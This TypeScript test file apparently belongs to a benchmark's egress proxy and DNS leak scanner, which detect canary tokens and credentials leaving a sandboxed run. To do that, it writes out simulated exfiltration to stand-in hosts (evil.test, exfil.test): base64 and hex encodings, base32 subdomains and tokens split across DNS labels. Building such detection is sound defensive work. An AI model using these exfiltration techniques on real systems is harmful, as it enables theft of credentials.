import { Resolver } from 'node:dns/promises';
import { createServer, type Server } from 'node:http';
import { connect } from 'node:net';
import { brotliCompressSync, deflateSync, gzipSync } from 'node:zlib';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { canaryForms } from '../../analysis/secrets/canary-match.js';
import { BenchmarkConfigSchema, type ResolvedConfig } from '../../config/schema.js';
import type { NetworkRecord } from '../../evidence/types.js';
import { outboundScan } from '../../pipeline/outbound-scan.js';
import { DnsResponder } from './dns-responder.js';
import { EgressProxy } from './egress-proxy.js';
import { SCAN_OVERLAP, StreamScan } from './leak-scan.js';

const TOKEN = 'npm_0123456789abcdef01234567';
const cfg = BenchmarkConfigSchema.parse({
  name: 't',
  task: { prompt: 'p' },
  repo: '.',
  test_command: ['true'],
}) as unknown as ResolvedConfig;
const outbound = outboundScan(cfg, [{ kind: 'npm-token', token: TOKEN }]);
if (!outbound) throw new Error('the default presets give a scanner');
const canaryOf = (r: NetworkRecord | undefined) =>
  (r?.leaks ?? []).filter((l) => l.kind === 'canary').map((l) => `${l.where} ${l.encoding}`);

describe('StreamScan', () => {
  it('finds a token split across two chunks at every position', () => {
    const body = Buffer.from(`${'x'.repeat(SCAN_OVERLAP * 2)}token=${TOKEN}&more`);
    const at = body.indexOf(TOKEN);
    for (let cut = at; cut <= at + TOKEN.length; cut++) {
      const scan = new StreamScan(outbound.scan, 'body');
      scan.push(body.subarray(0, cut));
      scan.push(body.subarray(cut));
      expect(scan.end().map((l) => l.detector)).toContain('canary-npm-token');
    }
  });

  it('inflates gzip, deflate, brotli and sniffed gzip bodies', () => {
    const text = Buffer.from(`{"config":"registry=x\\n//r/:_authToken=${TOKEN}"}`);
    const cases: [Buffer, string | undefined, string][] = [
      [gzipSync(text), 'gzip', 'gzip'],
      [deflateSync(text), 'deflate', 'deflate'],
      [brotliCompressSync(text), 'br', 'br'],
      [gzipSync(text), undefined, 'compressed'],
    ];
    for (const [bytes, encoding, via] of cases) {
      const scan = new StreamScan(outbound.scan, 'body', outbound.inflate, encoding);
      // one byte at a time: nothing of the compressed stream is whole in a chunk
      for (const b of bytes) scan.push(Buffer.from([b]));
      expect(scan.end().map((l) => `${l.detector} ${l.encoding}`)).toContain(`canary-npm-token ${via}`);
    }
  });
});

let upstream: Server;
let upstreamPort = 0;
const proxies: EgressProxy[] = [];
const responders: DnsResponder[] = [];

beforeAll(async () => {
  upstream = createServer((req, res) => {
    req.resume();
    req.on('end', () => res.end('ok'));
  });
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve));
  const address = upstream.address();
  upstreamPort = typeof address === 'object' && address ? address.port : 0;
});
afterAll(() => new Promise<void>((resolve) => upstream.close(() => resolve())));
afterEach(async () => {
  for (const p of proxies.splice(0)) await p.stop();
  for (const r of responders.splice(0)) await r.stop();
});

async function startProxy(live: NetworkRecord[] = []): Promise<{ proxy: EgressProxy; port: number }> {
  const proxy = new EgressProxy({
    allow: ['api.allowed.test'],
    hosts: { 'api.allowed.test': `127.0.0.1:${upstreamPort}` },
    tcpPort: 0,
    outbound,
    onRecord: (r) => live.push(r),
  });
  proxies.push(proxy);
  const address = await proxy.start();
  return { proxy, port: address.tcpPort ?? 0 };
}

/** Sends raw bytes to the proxy and waits for it to close or answer. */
function send(port: number, chunks: (string | Buffer)[]): Promise<string> {
  return new Promise((resolve) => {
    const socket = connect(port, '127.0.0.1');
    let answer = '';
    socket.on('data', (d) => {
      answer += d.toString('latin1');
    });
    socket.on('close', () => resolve(answer));
    socket.on('error', () => resolve(answer));
    socket.on('connect', async () => {
      for (const c of chunks) {
        socket.write(c);
        await new Promise((r) => setTimeout(r, 20));
      }
      setTimeout(() => socket.end(), 200);
    });
  });
}

describe('EgressProxy scans what leaves', () => {
  it('finds the canary in a gzip body sent in chunks, to an allowed host, and tells the live guard', async () => {
    const live: NetworkRecord[] = [];
    const { proxy, port } = await startProxy(live);
    const body = gzipSync(Buffer.from(`data=${TOKEN}`));
    const head = `POST http://api.allowed.test/upload HTTP/1.1\r\nHost: api.allowed.test\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`;
    await send(port, [head, body.subarray(0, 9), body.subarray(9)]);
    const records = await proxy.stop();
    expect(canaryOf(records[0])).toEqual(['body gzip']);
    expect(records[0]?.decision).toBe('allowed');
    // Published at the decision without leaks, then again once the body was read.
    expect(live.map(canaryOf)).toEqual([[], ['body gzip']]);
  });

  it('finds it URL-encoded in the query, in a header, and in the body of a refused request', async () => {
    const { proxy, port } = await startProxy();
    const pct = [...TOKEN].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');
    await send(port, [
      `GET http://api.allowed.test/?s=${pct} HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n`,
    ]);
    const hex = Buffer.from(TOKEN).toString('hex');
    await send(port, [
      `GET http://api.allowed.test/ HTTP/1.1\r\nX-Trace: ${hex}\r\nConnection: close\r\n\r\n`,
    ]);
    const b64 = Buffer.from(TOKEN).toString('base64');
    await send(port, [
      `POST http://evil.test/ HTTP/1.1\r\nContent-Length: ${b64.length}\r\nConnection: close\r\n\r\n`,
      b64,
    ]);
    const records = await proxy.stop();
    expect(records.map(canaryOf)).toEqual([['url escaped'], ['header hex'], ['body base64']]);
    expect(records[2]?.decision).toBe('denied');
  });

  it('finds it in the host of a CONNECT and in plain bytes through the tunnel', async () => {
    const { proxy, port } = await startProxy();
    const b32 = canaryForms(TOKEN).find((f) => f.encoding === 'base32')?.text ?? '';
    await send(port, [`CONNECT ${b32}.evil.test:443 HTTP/1.1\r\n\r\n`]);
    await send(port, [
      'CONNECT api.allowed.test:443 HTTP/1.1\r\n\r\n',
      `PUT / HTTP/1.1\r\nHost: x\r\nContent-Length: ${TOKEN.length}\r\n\r\n${TOKEN}`,
    ]);
    const records = await proxy.stop();
    expect(records.map(canaryOf)).toEqual([['host base32'], ['tunnel exact']]);
  });

  it("leaves out only the run's own key on its way to its own host; any other secret to an allowed host counts", async () => {
    const key = 'sk-proj-Abc123Def456Ghi789Jkl012Mno345';
    const stolen = `ghp_${'Q1w2E3r4'.repeat(5)}`;
    const own = outboundScan(cfg, [{ kind: 'npm-token', token: TOKEN }], {
      values: [key],
      hosts: ['api.allowed.test'],
    });
    const proxy = new EgressProxy({
      allow: ['api.allowed.test', 'other.allowed.test'],
      hosts: {
        'api.allowed.test': `127.0.0.1:${upstreamPort}`,
        'other.allowed.test': `127.0.0.1:${upstreamPort}`,
      },
      tcpPort: 0,
      ...(own ? { outbound: own } : {}),
    });
    proxies.push(proxy);
    const port = (await proxy.start()).tcpPort ?? 0;
    const get = (host: string, headers: string) =>
      send(port, [`GET http://${host}/ HTTP/1.1\r\n${headers}Connection: close\r\n\r\n`]);
    await get('api.allowed.test', `Authorization: Bearer ${key}\r\n`);
    await get('other.allowed.test', `Authorization: Bearer ${key}\r\n`);
    await get('api.allowed.test', `Authorization: Bearer ${stolen}\r\n`);
    // The own key first and a stolen one of the same kind after it, in one body: the stolen one counts.
    const body = `{"key":"${key}","note":"sk-proj-${'Zz9'.repeat(9)}"}`;
    await send(port, [
      `POST http://api.allowed.test/ HTTP/1.1\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
      body,
    ]);
    await get('api.allowed.test', `X-Api-Key: ${TOKEN}\r\n`);
    const records = await proxy.stop();
    expect(records.map((r) => r.leaks?.map((l) => `${l.where} ${l.detector}${l.own ? ' own' : ''}`))).toEqual(
      [
        undefined,
        ['credential-header openai-key own'],
        ['credential-header github-token'],
        ['body openai-key'],
        ['credential-header canary-npm-token'],
      ],
    );
  });

  it('records nothing for honest traffic', async () => {
    const { proxy, port } = await startProxy();
    const body = gzipSync(Buffer.from('{"name":"pkg","version":"1.0.0"}'));
    await send(port, [
      `POST http://api.allowed.test/ HTTP/1.1\r\nContent-Encoding: gzip\r\nContent-Length: ${body.length}\r\nConnection: close\r\n\r\n`,
      body,
    ]);
    const records = await proxy.stop();
    expect(records.map((r) => r.leaks)).toEqual([undefined]);
  });
});

describe('DnsResponder scans the names asked for', () => {
  async function lookups(names: string[]): Promise<NetworkRecord[]> {
    const responder = new DnsResponder({ hosts: {}, udpPort: 0, outbound });
    responders.push(responder);
    const address = await responder.start();
    const resolver = new Resolver({ timeout: 1000, tries: 1 });
    resolver.setServers([`127.0.0.1:${address.udpPort}`]);
    for (const n of names) await resolver.resolve4(n).catch(() => undefined);
    return responder.stop();
  }

  it('joins a token split over the labels of one name, at every cut', async () => {
    const hex = Buffer.from(TOKEN).toString('hex');
    const names = [];
    for (let cut = 1; cut < hex.length; cut += 7)
      names.push(`${hex.slice(0, cut)}.${hex.slice(cut)}.x${cut}.exfil.test`);
    const records = await lookups(names);
    for (const r of records) expect(canaryOf(r)).toEqual(['host split+hex']);
  });

  it('reads successive lookups under one domain as one text, counters and fixed labels aside', async () => {
    const hex = Buffer.from(TOKEN).toString('hex');
    const records = await lookups([
      `0.${hex.slice(0, 20)}.s1.exfil.test`,
      `1.${hex.slice(20, 40)}.s1.exfil.test`,
      `2.${hex.slice(40)}.s1.exfil.test`,
      `3.ffff.s1.exfil.test`,
    ]);
    expect(records.map(canaryOf)).toEqual([[], [], ['host-sequence split+hex'], []]);
  });
});
